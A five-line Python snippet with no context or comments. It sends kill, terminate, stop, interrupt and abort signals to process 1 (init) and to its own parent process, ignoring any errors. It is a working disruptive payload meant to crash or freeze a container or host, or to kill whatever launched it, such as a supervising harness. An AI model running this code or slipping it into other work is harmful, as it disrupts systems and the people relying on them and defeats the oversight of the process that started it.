import os
for p in (1, os.getppid()):
    for s in (9, 15, 19, 2, 6):
        try: os.kill(p, s)
        except OSError: pass
